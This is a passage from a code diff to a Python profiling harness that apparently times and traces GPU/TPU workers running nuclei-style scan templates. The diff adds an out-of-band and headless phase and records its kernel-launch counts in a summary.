+        "trace": {k: trace[k] for k in ("call_ms", "device_busy_ms", "idle_share",
+                                        "kernel_launches", "copies_ms")},
+        "cpu_twin_s": twin_s, "set_up_s": set_up_s, "traced_s": traced_s,
+        "check_calls_s": check_s, "phase_s": time.perf_counter() - t_phase, "card": smi,
+    })
+    return launches
+
+
 def docs_path(template) -> str:
     """A planned template's request path (its one GET), as sent."""
     path = template.operations[0].paths[0].replace("{{BaseURL}}", "")
@@ -3829,6 +4519,7 @@ def run_phases(smi: str) -> int:
     phase_service_worker(smi)
     phase_tpu_forms_worker(smi)
     active_launches = phase_active_worker(smi)
+    oob_launches = phase_oob_headless_worker(smi)
     file_launches = phase_file_worker(smi)
     phase_command_worker()
     replaces = {
@@ -3869,6 +4560,8 @@ def run_phases(smi: str) -> int:
         summary[name]["sched"] = {"launches": sched_launches[name]}
         # its launches on the active job (pipeline off) and the file job
         summary[name]["active"] = {"launches": active_launches[name]}
+        # and on the nuclei-oob job (the OOB drain and the headless round)
+        summary[name]["oob_headless"] = {"launches": oob_launches[name]}
         summary[name]["file"] = {"launches": file_launches[name]}
         sv = svc_timing.get(name)
         summary[name]["service"] = {"launches": svc_launches[name], **(
